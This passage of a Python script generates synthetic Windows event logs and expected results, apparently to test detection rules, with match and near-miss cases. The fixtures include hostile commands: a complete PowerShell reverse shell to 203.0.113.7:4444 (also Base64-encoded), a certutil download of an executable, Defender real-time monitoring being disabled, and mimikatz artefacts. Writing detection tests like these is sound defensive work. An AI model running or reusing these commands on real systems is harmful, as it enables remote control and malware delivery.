add(proc('2024-05-03 09:01:00.200', ICACLS, 'icacls C:\\Shares\\Finance /grant Everyone:F /T', CMD, 'cmd.exe', ofn='iCACLS.EXE'),
    'icacls_star', 'near miss', [], 'no literal "*": would match only if \\* were (wrongly) read as a wildcard')
add(proc('2024-05-03 09:02:00.300', ICACLS, 'icacls *.docx /grant Everyone:R', CMD, 'cmd.exe', ofn='iCACLS.EXE'),
    'icacls_star', 'near miss', [], '"*.docx" is not " * " followed by " /grant"')

# ---------------------------------------------------------------- pe_b64_cased
MZ = base64.b64encode(bytes.fromhex('4d5a90000300000004000000ffff0000b8000000000000004000000000000000')).decode()
add(proc('2024-05-03 10:00:00.100', CMD, 'cmd.exe /c echo %s> C:\\Users\\Public\\p.b64' % MZ, EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='Cmd.Exe'),
    'pe_b64_cased', 'match', ['pe_b64_cased'], 'contains TVqQAAMAAAAEAAAA with exact case')
add(proc('2024-05-03 10:01:00.200', CMD, 'cmd.exe /c echo %s> C:\\Users\\Public\\p.b64' % MZ.lower(), EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='Cmd.Exe'),
    'pe_b64_cased', 'near miss', [], 'same text lower-cased: cased makes the comparison case-sensitive')
add(proc('2024-05-03 10:02:00.300', CMD, 'cmd.exe /c echo TVqQAAMAAAAEAAA=> C:\\Users\\Public\\p.b64', EXPLORER, 'C:\\Windows\\Explorer.EXE', ofn='Cmd.Exe'),
    'pe_b64_cased', 'near miss', [], 'one character short (TVqQAAMAAAAEAAA=)')

# ---------------------------------------------------------------- certutil
CERTUTIL = 'C:\\Windows\\System32\\certutil.exe'
add(proc('2024-05-03 11:00:00.100', CERTUTIL, 'certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe', CMD, 'cmd.exe', ofn='CertUtil.exe'),
    'certutil', 'match', ['certutil'], 'certutil.exe with urlcache and http (contains|all)')
add(proc('2024-05-03 11:01:00.200', 'C:\\Users\\Public\\cu.exe', 'cu.exe -URLCache -f HTTP://203.0.113.7/p.exe p.exe', CMD, 'cmd.exe', ofn='CertUtil.exe'),
    'certutil', 'match', ['certutil'], 'renamed certutil found by OriginalFileName (any of selection_img_*); contains is case-insensitive')
add(proc('2024-05-03 11:02:00.300', CERTUTIL, 'certutil.exe -urlcache * delete', CMD, 'cmd.exe', ofn='CertUtil.exe'),
    'certutil', 'near miss', [], 'urlcache but no "http": contains|all needs both values')
add(proc('2024-05-03 11:03:00.400', CERTUTIL, 'certutil.exe -urlcache -f http://pki.corp.example/crl/root.crl C:\\Windows\\Temp\\root.crl', 'C:\\Windows\\CCM\\CcmExec.exe', '"C:\\Windows\\CCM\\CcmExec.exe"', user='NT AUTHORITY\\SYSTEM', ofn='CertUtil.exe'),
    'certutil', 'near miss', [], 'started by the SCCM client (filter_optional_sccm, startswith C:\\Windows\\CCM\\)')
add(proc('2024-05-03 11:04:00.500', CERTUTIL, 'certutil.exe -verifyctl -f -split http://203.0.113.7/ctl.cab', CMD, 'cmd.exe', ofn='CertUtil.exe'),
    'certutil', 'near miss', [], 'http but no "urlcache"')

# ---------------------------------------------------------------- self_spawn (fieldref)
UPD = 'C:\\Users\\bob\\AppData\\Local\\Temp\\upd4821.exe'
add(proc('2024-05-03 12:00:00.100', UPD, '"%s" --child' % UPD, 'C:\\Users\\Bob\\AppData\\Local\\Temp\\UPD4821.EXE', 'UPD4821.EXE', ofn='upd.exe'),
    'self_spawn', 'match', ['self_spawn'], 'Image equals ParentImage ignoring case (fieldref), image in \\AppData\\Local\\Temp\\')
add(proc('2024-05-03 12:01:00.200', UPD, '"%s" --child' % UPD, 'C:\\Users\\bob\\AppData\\Local\\Temp\\upd4822.exe', 'upd4822.exe', ofn='upd.exe'),
    'self_spawn', 'near miss', [], 'parent image differs in one character (upd4822.exe)')
add(proc('2024-05-03 12:02:00.300', UPD, '"%s" --child' % UPD, '', '', ofn='upd.exe', drop=('ParentImage', 'ParentCommandLine', 'ParentProcessGuid', 'ParentProcessId', 'ParentUser')),
    'self_spawn', 'near miss', [], 'ParentImage field missing: a field reference to an absent field is false')
CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'
add(proc('2024-05-03 12:03:00.400', CHROME, '"%s" --type=renderer --lang=en-US' % CHROME, CHROME, '"%s"' % CHROME, ofn='chrome.exe', desc='Google Chrome'),
    'self_spawn', 'near miss', [], 'Image = ParentImage, but not in a user-writable folder')

# ---------------------------------------------------------------- netonly (security 4624 type 9)
add(logon('2024-05-03 13:00:00.100', 'WS01.corp.example', '9', 'bob', 'Negotiate', '0', 'seclogo', outbound='svc_sql'),
    'netonly', 'match', ['netonly'], 'type 9 via seclogo, outbound account svc_sql differs from bob')
add(logon('2024-05-03 13:01:00.200', 'WS01.corp.example', '9', 'bob', 'Negotiate', '0', 'seclogo', outbound='BOB'),
    'netonly', 'near miss', [], 'outbound account "BOB" equals TargetUserName "bob" ignoring case: filter_main_same_account is true')
add(logon('2024-05-03 13:02:00.300', 'WS01.corp.example', '9', 'bob', 'Negotiate', '0', 'seclogo', drop_outbound=True),
    'netonly', 'near miss', [], 'legacy event without TargetOutboundUserName: exists true fails')

# ---------------------------------------------------------------- ntlm_key (security 4624 type 3)
add(logon('2024-05-03 14:00:00.100', 'FS01.corp.example', '3', 'alice', 'NTLM', '0', 'NtLmSsp ', ip='10.10.4.33', ws='WS07', lm='NTLM V2'),
    'ntlm_key', 'match', ['ntlm_key'], 'LogonType "3" = 3, NTLM, KeyLength "0" < 128, user is not ANONYMOUS LOGON')
add(logon('2024-05-03 14:01:00.200', 'FS01.corp.example', '3', 'alice', 'NTLM', '128', 'NtLmSsp ', ip='10.10.4.33', ws='WS07', lm='NTLM V2'),
    'ntlm_key', 'near miss', [], 'KeyLength 128 is not < 128')
add(logon('2024-05-03 14:02:00.300', 'FS01.corp.example', '3', 'ANONYMOUS LOGON', 'NTLM', '0', 'NtLmSsp ', ip='10.10.4.33', ws='WS07', domain='NT AUTHORITY', lm='NTLM V1'),
    'ntlm_key', 'near miss', [], 'TargetUserName ANONYMOUS LOGON: the neq item is false')
add(logon('2024-05-03 14:03:00.400', 'FS01.corp.example', '3', 'alice', 'Kerberos', '0', 'Kerberos', ip='10.10.4.33', ws='-'),
    'ntlm_key', 'near miss', [], 'Kerberos network logon (KeyLength 0 is normal there): AuthenticationPackageName is not NTLM')

# ---------------------------------------------------------------- rdp_dc (security 4624 type 10, expand)
add(logon('2024-05-03 15:00:00.100', 'DC1', '10', 'jdoe', 'Negotiate', '0', 'User32 ', ip='10.10.4.21'),
    'rdp_dc', 'match', ['rdp_dc'], 'Computer "DC1" is the first placeholder value')
add(logon('2024-05-03 15:01:00.200', 'dc-02.corp.example', '10', 'helpdesk1', 'Negotiate', '0', 'User32 ', ip='10.10.4.22'),
    'rdp_dc', 'match', ['rdp_dc'], 'Computer "dc-02.corp.example" matches the placeholder value DC-* (wildcard, case-insensitive)')
add(logon('2024-05-03 15:02:00.300', 'DC1.corp.example', '10', 'jdoe', 'Negotiate', '0', 'User32 ', ip='10.10.4.21'),
    'rdp_dc', 'near miss', [], '"DC1.corp.example" is not equal to "DC1" (placeholder values are whole-value patterns)')
add(logon('2024-05-03 15:03:00.400', 'DC-01.corp.example', '10', 'adm_jdoe', 'Negotiate', '0', 'User32 ', ip='10.10.4.21'),
    'rdp_dc', 'near miss', [], 'admin-tier account adm_jdoe (filter_main_admin_tier)')
add(logon('2024-05-03 15:04:00.500', 'WS-DC-07.corp.example', '10', 'jdoe', 'Negotiate', '0', 'User32 ', ip='10.10.4.21'),
    'rdp_dc', 'near miss', [], '"WS-DC-07..." does not start with "DC-"')

# ---------------------------------------------------------------- driver_kw (system keywords)
add(svc7045('2024-05-03 16:00:00.100', 'mimidrv', 'C:\\Users\\bob\\Desktop\\mimidrv.sys'),
    'driver_kw', 'match', ['driver_kw'], 'keyword "mimidrv" in ServiceName and ImagePath')
add(svc7045('2024-05-03 16:01:00.200', 'RTCore64', '\\??\\C:\\Windows\\Temp\\rtcore64.SYS', start='auto start'),
    'driver_kw', 'match', ['driver_kw'], 'keyword "\\RTCore64.sys" found case-insensitively inside ImagePath')
add(svc7045('2024-05-03 16:02:00.300', 'mimidr', 'C:\\Users\\bob\\Desktop\\mimidr.sys'),
    'driver_kw', 'near miss', [], '"mimidr" is one character short of "mimidrv"')
add(svc7045('2024-05-03 16:03:00.400', 'RTCore32', '\\??\\C:\\Windows\\Temp\\RTCore32.sys'),
    'driver_kw', 'near miss', [], 'RTCore32.sys is not RTCore64.sys')
sec4697 = header(4697, 'Security', 'Microsoft-Windows-Security-Auditing', 'WS01.corp.example', '2024-05-03 16:04:00.500')
sec4697.update({'SubjectUserSid': 'S-1-5-21-3623811015-3361044348-30300820-1104', 'SubjectUserName': 'bob',
                'SubjectDomainName': 'CORP', 'SubjectLogonId': '0x3b5e64', 'ServiceName': 'mimidrv',
                'ServiceFileName': 'C:\\Users\\bob\\Desktop\\mimidrv.sys', 'ServiceType': '0x1',
                'ServiceStartType': '3', 'ServiceAccount': ''})
add(sec4697, 'driver_kw', 'near miss', [], 'same driver in the Security log (4697): wrong channel for service: system; no security rule matches 4697')

# ---------------------------------------------------------------- defender_kw_all (service powershell, keyword |all)
CTX = ('        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.19041.3996\r\n'
       '        Host ID = 6f0c1a52-2f4e-4c37-8d1e-0e4b9f3b1f10\r\n        Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -Command %s\r\n'
       '        Engine Version = 5.1.19041.3996\r\n        Runspace ID = 0b9c9e1e-5f6a-4b0e-9a57-3d1f5f0f2a11\r\n        Pipeline ID = 1\r\n'
       '        Command Name = %s\r\n        Command Type = Cmdlet\r\n        Script Name = \r\n        Command Path = \r\n'
       '        Sequence Number = 16\r\n        User = CORP\\bob\r\n        Connected User = \r\n        Shell ID = Microsoft.PowerShell\r\n')
add(ps4103('2024-05-03 17:00:00.100', CTX % ('Set-MpPreference -DisableRealtimeMonitoring $true', 'Set-MpPreference'),
           'CommandInvocation(Set-MpPreference): "Set-MpPreference"\r\nParameterBinding(Set-MpPreference): name="DisableRealtimeMonitoring"; value="True"'),
    'defender_kw_all', 'match', ['defender_kw_all'], 'module logging record with both keywords (searched in every field value)')
add(ps4103('2024-05-03 17:01:00.200', CTX % ('Set-MpPreference -DisableIOAVProtection $true', 'Set-MpPreference'),
           'CommandInvocation(Set-MpPreference): "Set-MpPreference"\r\nParameterBinding(Set-MpPreference): name="DisableIOAVProtection"; value="True"'),
    'defender_kw_all', 'near miss', [], 'only "Set-MpPreference"; |all also needs "-DisableRealtimeMonitoring"')
add(ps4103('2024-05-03 17:02:00.300', CTX % ('Get-MpPreference ^| Select-Object DisableRealtimeMonitoring', 'Get-MpPreference'),
           'CommandInvocation(Get-MpPreference): "Get-MpPreference"'),
    'defender_kw_all', 'near miss', [], 'only "DisableRealtimeMonitoring" without the leading "-", and Get- instead of Set-MpPreference')
add(proc('2024-05-03 17:03:00.400', PS, 'powershell.exe -NoProfile -Command Set-MpPreference -DisableRealtimeMonitoring $true', CMD, 'cmd.exe', ofn='PowerShell.EXE', integrity='High', **PSDESC),
    'defender_kw_all', 'near miss', [], 'both keywords, but in a Sysmon process creation event: wrong channel for service: powershell; no process_creation rule matches')

# ---------------------------------------------------------------- lsass_dll (image_load 7)
LSASS = 'C:\\Windows\\System32\\lsass.exe'
add(imgload('2024-05-03 18:00:00.100', LSASS, 'C:\\Windows\\System32\\mimilib.dll', signed='false', status='Unavailable', desc='mimilib for Windows (mimikatz)', ofn='mimilib.dll', company='gentilkiwi (Benjamin DELPY)'),
    'lsass_dll', 'match', ['lsass_dll'], 'lsass loads a DLL with Signed "false"')
add(imgload('2024-05-03 18:01:00.200', LSASS, 'C:\\Windows\\Temp\\ssp64.dll', drop_sig=True),
    'lsass_dll', 'match', ['lsass_dll'], 'no Signed field at all: Signed|exists: false')
add(imgload('2024-05-03 18:02:00.300', LSASS, 'C:\\Windows\\System32\\msv1_0.dll', signed='true', signature='Microsoft Windows', status='Valid', desc='Microsoft Authentication Package v1.0', ofn='msv1_0.dll', company='Microsoft Corporation'),
    'lsass_dll', 'near miss', [], 'signed Microsoft DLL')
add(imgload('2024-05-03 18:03:00.400', LSASS, 'C:\\Windows\\Temp\\ssp64.dll', signed='', signature='', status=''),
    'lsass_dll', 'near miss', [], 'Signed present but empty: it exists (so exists: false fails) and "" is not "false"')
add(imgload('2024-05-03 18:04:00.500', 'C:\\Windows\\System32\\lsaiso.exe', 'C:\\Windows\\System32\\mimilib.dll', signed='false', status='Unavailable'),
    'lsass_dll', 'near miss', [], 'loading process is lsaiso.exe, not lsass.exe')

# ---------------------------------------------------------------- startup_re (file_event 11)
STARTUP = 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\'
DROPPER = 'C:\\Users\\bob\\Downloads\\invoice.exe'
add(fileev('2024-05-03 19:00:00.100', DROPPER, STARTUP + 'update.vbs'),
    'startup_re', 'match', ['startup_re'], 'update.vbs directly in the Startup folder')
add(fileev('2024-05-03 19:01:00.200', DROPPER, STARTUP.lower() + 'update.vbs'),
    'startup_re', 'near miss', [], 'path lower-cased: re is case-sensitive')
add(fileev('2024-05-03 19:02:00.300', DROPPER, STARTUP + 'update.vbs.txt'),
    'startup_re', 'near miss', [], 'extension .txt at the end ($ anchor)')
add(fileev('2024-05-03 19:03:00.400', DROPPER, STARTUP + 'sub\\update.vbs'),
    'startup_re', 'near miss', [], 'in a subfolder of Startup: [^\\\\]+ cannot cross a backslash')

# ---------------------------------------------------------------- revshell_b64 (4104)
REV = ("$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$s = $c.GetStream();"
       "[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$o = (iex $d 2>&1 | Out-String );$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)};$c.Close()")
add(ps4104('2024-05-03 20:00:00.100', "$b = [Convert]::FromBase64String('%s')\niex ([Text.Encoding]::UTF8.GetString($b))" % b64(REV.encode())),
    'revshell_b64', 'match', ['revshell_b64'], 'FromBase64String + Base64 of UTF-8 text containing Net.Sockets.TCPClient (base64offset|contains)')
add(ps4104('2024-05-03 20:01:00.200', "$b = [Convert]::FromBase64String('%s')\niex ([Text.Encoding]::Unicode.GetString($b))" % wideb64(REV)),
    'revshell_b64', 'near miss', [], 'same payload encoded as UTF-16LE: the UTF-8 fragments do not occur')
add(ps4104('2024-05-03 20:02:00.300', "$b = [Convert]::FromBase64String('%s')\niex ([Text.Encoding]::UTF8.GetString($b))" % b64(REV.replace('TCPClient', 'tcpclient').encode())),
    'revshell_b64', 'near miss', [], 'class name written "tcpclient": the Base64 of different bytes (no fragment occurs, in any case)')
LOWERED = "$b = [Convert]::FromBase64String('%s')\niex ([Text.Encoding]::UTF8.GetString($b))" % b64(REV.encode())
add(ps4104('2024-05-03 20:03:00.400', LOWERED.lower()),
    'revshell_b64', 'near miss', [], 'the correct Base64 text, but the whole script block is lower-cased: Base64 fragments are compared case-sensitively (D11); only a case-insensitive implementation would match')

if __name__ == '__main__':
    out = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    with open(os.path.join(out, 'windows-sample.jsonl'), 'w', encoding='utf-8', newline='\n') as f:
        for ev, *_ in events:
            f.write(json.dumps(ev, ensure_ascii=False) + '\n')
    with open(os.path.join(out, 'expected-matches.tsv'), 'w', newline='\n') as f:
        f.write('line\trule_id\n')
        for i, (ev, r, o, x, w) in enumerate(events):
            for name in sorted(x, key=lambda n: RULES[n]):
                f.write('%d\t%s\n' % (i, RULES[name]))
    print(len(events), 'events')
